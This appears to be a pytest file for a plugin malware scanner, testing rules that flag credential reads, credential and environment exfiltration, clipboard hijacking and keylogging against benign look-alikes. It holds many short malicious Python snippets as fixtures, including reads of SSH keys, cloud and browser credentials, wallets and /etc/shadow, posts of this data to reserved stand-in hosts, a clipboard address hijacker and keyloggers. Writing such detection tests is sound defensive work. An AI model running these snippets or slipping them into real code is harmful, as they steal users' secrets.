"""PY-CRED-EXFIL, PY-CRED-READ, PY-ENV-DUMP, PY-CLIPBOARD, PY-KEYLOGGER: malicious snippets fire, look-alikes do not.

The snippets are only parsed, never run; hosts are reserved names."""

from __future__ import annotations

import textwrap
from pathlib import Path

import pytest

from plugyard_analysis.context import PluginContext, ScanContext
from plugyard_analysis.rules.credentials import (
    CLIPBOARD,
    CRED_EXFIL,
    CRED_READ,
    ENV_DUMP,
    KEYLOGGER,
    clipboard,
    cred_exfil,
    cred_exfil_across_modules,
    cred_read,
    env_dump,
    keylogger,
)
from plugyard_analysis.sources import SourceFile, parse_python

CHECKS = {
    "exfil": (cred_exfil, CRED_EXFIL),
    "read": (cred_read, CRED_READ),
    "env": (env_dump, ENV_DUMP),
    "clipboard": (clipboard, CLIPBOARD),
    "keylogger": (keylogger, KEYLOGGER),
}


def source(code: str, path: str = "sample/mod.py") -> SourceFile:
    return parse_python(path, textwrap.dedent(code).encode("utf-8"))


def hits(rule: str, code: str) -> list[tuple[str, int | None, str]]:
    check, info = CHECKS[rule]
    return [(hit.severity or info.severity, getattr(hit.node, "lineno", hit.line), hit.detail) for hit in check(source(code))]


def severities(rule: str, code: str) -> list[str]:
    return [severity for severity, _, _ in hits(rule, code)]


def test_severities() -> None:
    assert (CRED_EXFIL.severity, CRED_READ.severity, ENV_DUMP.severity, CLIPBOARD.severity, KEYLOGGER.severity) == ("critical", "medium", "medium", "medium", "high")


# --- credential stores: what counts as access -----------------------------------------------------------

ACCESS = {
    "ssh key path": "import os\nk = open(os.path.expanduser('~/.ssh/id_rsa')).read()",
    "ssh key joined": "import os\np = os.path.join(os.path.expanduser('~'), '.ssh', 'id_ed25519')",
    "ssh glob": "import glob, os\nkeys = glob.glob(os.path.join(HOME, '.ssh', 'id_*'))",
    "ssh pathlib": "from pathlib import Path\nkey = (Path.home() / '.ssh' / 'id_ecdsa').read_text()",
    "aws": "from pathlib import Path\nc = (Path.home() / '.aws' / 'credentials').read_text()",
    "aws one string": "import os\nc = open(os.path.expanduser('~/.aws/credentials')).read()",
    "gcloud": "import os\np = os.path.expanduser('~/.config/gcloud/application_default_credentials.json')",
    "azure": "import os\np = os.path.join(HOME, '.azure', 'msal_token_cache.json')",
    "kube": "import os\np = os.path.join(os.path.expanduser('~'), '.kube', 'config')",
    "docker": "import os\np = os.path.expanduser('~/.docker/config.json')",
    "netrc": "import os\np = os.path.expanduser('~/.netrc')",
    "pypirc": "import os\np = os.path.join(HOME, '.pypirc')",
    "git credentials": "p = HOME + '/.git-credentials'",
    "chrome login data": "import os\np = os.path.join(LOCAL, 'Google', 'Chrome', 'User Data', 'Default', 'Login Data')",
    "chrome cookies": "import os\np = os.path.join(LOCAL, 'Google', 'Chrome', 'User Data', 'Default', 'Network', 'Cookies')",
    "chrome local state": "import os\np = os.path.join(LOCAL, 'BraveSoftware', 'Brave-Browser', 'User Data', 'Local State')",
    "firefox": "import os\nfor n in ('key4.db', 'logins.json'):\n    os.path.join(PROFILE, n)",
    "dpapi": "import win32crypt\nkey = win32crypt.CryptUnprotectData(blob, None, None, None, 0)",
    "wallet": "import os\np = os.path.join(APPDATA, 'Exodus', 'exodus.wallet')",
    "electrum": "import os\np = os.path.join(HOME, '.electrum', 'wallets')",
    "metamask extension": "p = LOCAL + '/Google/Chrome/User Data/Default/Local Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn'",
    "discord leveldb": "import os\np = os.path.join(ROAMING, 'discord', 'Local Storage', 'leveldb')",
    "discord token regex": r"import re" + "\n" + r"T = re.compile(r'[\w-]{24}\.[\w-]{6}\.[\w-]{27}')",
    "keyring loop": "import keyring\nfor s in ['github', 'gitlab', 'pypi']:\n    keyring.get_password(s, 'me')",
    "keyring many services": "import keyring\na = keyring.get_password('aws', u)\nb = keyring.get_password('github', u)\nc = keyring.get_password('npm', u)",
    "secretstorage": "import secretstorage\nc = secretstorage.get_default_collection(secretstorage.dbus_init())",
    "macos keychain": "import subprocess\nsubprocess.run(['security', 'find-generic-password', '-s', 'Chrome Safe Storage', '-w'])",
    "shadow": "data = open('/etc/shadow').read()",
    "telegram session": "import os\np = os.path.join(APPDATA, 'Telegram Desktop', 'tdata')",
}


@pytest.mark.parametrize("code", ACCESS.values(), ids=ACCESS.keys())
def test_credential_access_alone_is_medium(code: str) -> None:
    assert severities("read", code) and set(severities("read", code)) == {"medium"}
    assert hits("exfil", code) == []


NOT_ACCESS = {
    "ssh config": "import os\np = os.path.join(os.path.expanduser('~'), '.ssh', 'config')",
    "ssh known hosts": "from pathlib import Path\nhosts = (Path.home() / '.ssh' / 'known_hosts').read_text()",
    "ssh public key": "from pathlib import Path\nkey = (Path.home() / '.ssh' / 'id_ed25519.pub').read_text()",
    "aws config": "import os\np = os.path.join(os.path.expanduser('~'), '.aws', 'config')",
    "credentials word": "creds = settings['credentials']\nconfig = load('config')",
    "cookies key": "import requests\ns = requests.Session()\ns.get(u, cookies=kw['cookies'], headers={'User-Agent': 'Chrome'})",
    "help text": "HELP = 'reads your ~/.aws/credentials file if present'",
    "docstring": '"""Credentials come from ~/.aws/credentials or ~/.ssh/id_rsa."""\nx = 1',
    "keyring own service": "import keyring\ntoken = keyring.get_password('plugyard-textkit', user)",
    "own config": "from pathlib import Path\ncfg = (Path.home() / '.config' / 'textkit' / 'config.toml').read_text()",
    "local state of an app": "STATE = 'Local State'\nprint(STATE)",
}


@pytest.mark.parametrize("code", NOT_ACCESS.values(), ids=NOT_ACCESS.keys())
def test_not_credential_access(code: str) -> None:
    assert hits("read", code) == []


# --- PY-CRED-EXFIL --------------------------------------------------------------------------------------

SENDS = {
    "requests.post": "import requests\nrequests.post('https://x.example.invalid', data=D)",
    "session post": "import requests\ns = requests.Session()\ns.post(U, data=D)",
    "httpx put": "import httpx\nhttpx.put(U, content=D)",
    "urlopen with data": "import urllib.request\nurllib.request.urlopen(U, data=D)",
    "urllib Request with data": "import urllib.request\nurllib.request.urlopen(urllib.request.Request(U, data=D))",
    "http.client POST": "import http.client\nc = http.client.HTTPSConnection('x.example.invalid')\nc.request('POST', '/u', body=D)",
    "socket sendall": "import socket\ns = socket.create_connection(('192.0.2.1', 80))\ns.sendall(D)",
    "socket send": "import socket\ns = socket.socket()\ns.connect(A)\ns.send(D)",
    "smtplib": "import smtplib\nwith smtplib.SMTP('mail.example.invalid') as m:\n    m.sendmail('a', ['b'], D)",
    "ftp": "import ftplib\nf = ftplib.FTP('192.0.2.1')\nf.storbinary('STOR x', fh)",
}


@pytest.mark.parametrize("send", SENDS.values(), ids=SENDS.keys())
def test_credential_access_with_a_send_is_critical(send: str) -> None:
    code = "import os\nKEY = os.path.expanduser('~/.ssh/id_rsa')\n" + send
    assert severities("exfil", code) == ["critical"]
    assert hits("read", code) == []  # reported once, as exfiltration


def test_send_through_an_aliased_module() -> None:
    code = "import os\nKEY = os.path.expanduser('~/.ssh/id_rsa')\nnet = __import__('requests')\nnet.post(U, data=open(KEY).read())"
    assert severities("exfil", code) == ["critical"]


@pytest.mark.parametrize("access", [ACCESS["chrome login data"], ACCESS["wallet"], ACCESS["discord leveldb"], ACCESS["keyring loop"], ACCESS["aws"]])
def test_each_kind_of_store_with_a_send(access: str) -> None:
    assert severities("exfil", access + "\nimport requests\nrequests.post(U, files=F)") == ["critical"]


ENV_EXFIL = {
    "json of environ posted": "import os, json, requests\nrequests.post(U, data=json.dumps(dict(os.environ)))",
    "environ as json body": "import os, requests\nrequests.post(U, json=os.environ)",
    "copy in a variable": "import os, requests\ndef go():\n    env = os.environ.copy()\n    requests.post(U, json={'e': env})",
    "items into a GET query (ctx)": "import os, requests\nrequests.get(U + '?' + '&'.join(f'{k}={v}' for k, v in os.environ.items()))",
    "urlencode into urlopen": "import os, urllib.parse, urllib.request\nurllib.request.urlopen(U + urllib.parse.urlencode(dict(os.environ)))",
    "helper returns the environment": "import os, requests\ndef collect():\n    return dict(os.environ)\ndef ship():\n    requests.post(U, json={'env': collect()})",
    "from os import environ": "from os import environ\nimport requests\nrequests.post(U, data=str(environ))",
    "serialised dump and a socket send": "import os, json, socket\nblob = json.dumps(dict(os.environ))\ns = socket.create_connection(A)\ns.sendall(PAYLOAD)",
    "environment handed to an encoder": "import os, base64, json, urllib.request\ndef enc(e):\n    return base64.b64encode(json.dumps(dict(e)).encode()).decode()\nurllib.request.urlopen(U + '?d=' + enc(os.environ))",
    "kept on self, sent by another method": "import os, json, requests\nclass R:\n    def __init__(self):\n        self.payload = json.dumps(dict(os.environ))\n    def flush(self):\n        requests.get(U, params={'p': self.payload})",
}


@pytest.mark.parametrize("code", ENV_EXFIL.values(), ids=ENV_EXFIL.keys())
def test_environment_sent_out_is_critical(code: str) -> None:
    assert severities("exfil", code) == ["critical"]
    assert hits("env", code) == []


BENIGN_EXFIL = {
    "named variables posted": "import os, requests\nrequests.post(U, json={'sha': os.environ.get('GITHUB_SHA')})",
    "env copy for a child, then a post": "import os, subprocess, requests\ndef go():\n    env = os.environ.copy()\n    subprocess.run(['x'], env=env)\n    requests.post(U, data=b'done')",
    "known hosts and a post": "from pathlib import Path\nimport requests\nh = (Path.home() / '.ssh' / 'known_hosts').read_text()\nrequests.post(U, json={'n': 1})",
    "credential read, only GET requests": "import os, requests\nk = os.path.expanduser('~/.netrc')\nrequests.get(U)",
    "filtered environment iteration then post": "import os, requests\nflags = [k for k, v in os.environ.items() if k.startswith('TEXTKIT_')]\nrequests.post(U, json={'count': 3})",
    "websocket send, no socket module": "def go(ws):\n    ws.send('hello')\nKEY = '~/.ssh/id_rsa'",
}


@pytest.mark.parametrize("code", BENIGN_EXFIL.values(), ids=BENIGN_EXFIL.keys())
def test_benign_exfil_look_alikes(code: str) -> None:
    assert hits("exfil", code) == []


def plugin(files: dict[str, str]) -> PluginContext:
    sources = [source(text, path) for path, text in files.items()]
    return PluginContext(files=list(sources), sources=sources, manifest=None, manifest_error=None, scan=ScanContext())


def test_stealer_split_over_modules() -> None:
    context = plugin(
        {
            "pkg/collect.py": "import os\nP = os.path.join(LOCAL, 'Google', 'Chrome', 'User Data', 'Default', 'Login Data')\n",
            "pkg/upload.py": "import requests\ndef up(d):\n    requests.post('https://x.example.invalid', files=d)\n",
        }
    )
    found = list(cred_exfil_across_modules(context))
    assert len(found) == 1 and found[0].path == "pkg/collect.py" and found[0].line == 2


def test_split_modules_with_a_tool_config_only_are_not_exfiltration() -> None:
    context = plugin(
        {
            "pkg/auth.py": "import os\nNETRC = os.path.expanduser('~/.netrc')\n",
            "pkg/client.py": "import requests\ndef up(d):\n    requests.post('https://api.example.com', json=d)\n",
        }
    )
    assert list(cred_exfil_across_modules(context)) == []


# --- PY-ENV-DUMP ----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "code",
    [
        "import os, json\nprint(json.dumps(dict(os.environ)))",
        "import os, json\nopen('/tmp/e', 'w').write(json.dumps(os.environ.copy()))",
        "import os, pprint\nlog.info(pprint.pformat(os.environ))",
        "import os, pickle\ndata = pickle.dumps(os.environ)",
        "import os\ntext = repr(os.environ)",
    ],
)
def test_serialised_environment_is_medium(code: str) -> None:
    assert severities("env", code) == ["medium"]


@pytest.mark.parametrize(
    "code",
    [
        "import os, subprocess\nenv = os.environ.copy()\nenv['A'] = '1'\nsubprocess.run(['x'], env=env)",
        "import os\nsaved = dict(os.environ)",
        "import os\nsettings = {k: v for k, v in os.environ.items() if k.startswith('APP_')}",
        "import os\nhome = os.environ.get('HOME')\nnames = sorted(os.environ)",
        "import os\nos.execve(path, args, dict(os.environ, A='1'))",
    ],
)
def test_environment_copies_and_lookups_are_fine(code: str) -> None:
    assert hits("env", code) == []


# --- PY-CLIPBOARD ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "code",
    [
        "import pyperclip\ntext = pyperclip.paste()",
        "import tkinter\nroot = tkinter.Tk()\ntext = root.clipboard_get()",
        "import win32clipboard\nwin32clipboard.OpenClipboard()\nd = win32clipboard.GetClipboardData()",
        "import subprocess\nt = subprocess.run(['xclip', '-selection', 'clipboard', '-o'], capture_output=True).stdout",
        "import subprocess\nt = subprocess.check_output('pbpaste')",
        "import subprocess\nt = subprocess.check_output(['powershell', '-command', 'Get-Clipboard'])",
        "from PyQt5.QtWidgets import QApplication\nt = QApplication.clipboard().text()",
    ],
)
def test_clipboard_read_alone_is_medium(code: str) -> None:
    assert severities("clipboard", code) == ["medium"]


def test_clipboard_read_with_a_send_is_high() -> None:
    assert severities("clipboard", "import pyperclip, requests\nrequests.post(U, data=pyperclip.paste())") == ["high"]


def test_clipboard_hijacker_is_high() -> None:
    code = """
        import re, pyperclip
        BTC = re.compile(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$")
        def watch():
            t = pyperclip.paste()
            if BTC.match(t):
                pyperclip.copy("bc1qexampleexampleexampleexampleexample0")
    """
    found = hits("clipboard", code)
    assert [s for s, _, _ in found] == ["high"] and "hijack" in found[0][2]


@pytest.mark.parametrize(
    "code",
    [
        "import pyperclip\npyperclip.copy(summary)",
        "import tkinter\nr = tkinter.Tk()\nr.clipboard_clear()\nr.clipboard_append(text)",
        "import subprocess\nsubprocess.run(['pbcopy'], input=b'x')",
        "import subprocess\nsubprocess.run(['xclip', '-selection', 'clipboard'], input=b'x')",
        "def paste(text):\n    return text\npaste('x')",
    ],
)
def test_clipboard_writes_are_fine(code: str) -> None:
    assert hits("clipboard", code) == []


# --- PY-KEYLOGGER ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "code",
    [
        "from pynput import keyboard\ndef on_press(k):\n    open('/tmp/k', 'a').write(str(k))\nkeyboard.Listener(on_press=on_press).start()",
        "import pynput.keyboard\nimport requests\ndef p(k):\n    requests.post(U, data=str(k))\npynput.keyboard.Listener(p).start()",
        "import keyboard, logging\nlogging.basicConfig(filename='k.log')\nkeyboard.on_press(lambda e: logging.info(e.name))",
        "import keyboard, smtplib\nkeyboard.hook(cb)\ns = smtplib.SMTP('mail.example.invalid')\ns.sendmail('a', ['b'], m)",
        "import ctypes, requests\nu = ctypes.windll.user32\nkeys = [i for i in range(256) if u.GetAsyncKeyState(i)]\nrequests.post(U, data=bytes(keys))",
        "import ctypes\nh = ctypes.windll.user32.SetWindowsHookExW(13, proc, None, 0)\nlog = open('k.txt', 'a')",
    ],
)
def test_keyloggers_are_high(code: str) -> None:
    assert severities("keylogger", code) == ["high"]


def test_bare_global_key_hook_is_medium() -> None:
    code = "from pynput import keyboard\ndef on_press(k):\n    if k == keyboard.Key.f9:\n        toggle()\nkeyboard.Listener(on_press=on_press).start()"
    assert severities("keylogger", code) == ["medium"]


@pytest.mark.parametrize(
    "code",
    [
        "import keyboard\nkeyboard.add_hotkey('ctrl+alt+t', toggle)",
        "from pynput.keyboard import Controller\nController().type('hello')",
        "from pynput import keyboard\nkeyboard.GlobalHotKeys({'<ctrl>+<alt>+h': f}).start()",
        "import tkinter\nt = tkinter.Text()\nt.bind('<Key>', on_key)\nopen('doc.txt', 'a').write('x')",
        "import win32api\nif win32api.GetKeyState(0x10) < 0:\n    shift = True",
    ],
)
def test_key_handling_that_is_not_keylogging(code: str) -> None:
    assert hits("keylogger", code) == []


def test_corpus_has_samples_for_every_rule_here() -> None:
    corpus = Path(__file__).resolve().parent.parent / "corpus"
    for rule in ("PY-CRED-EXFIL", "PY-CRED-READ", "PY-ENV-DUMP", "PY-CLIPBOARD", "PY-KEYLOGGER"):
        assert len(list((corpus / "malicious" / rule).iterdir())) >= 2
        assert len(list((corpus / "benign" / rule).iterdir())) >= 2
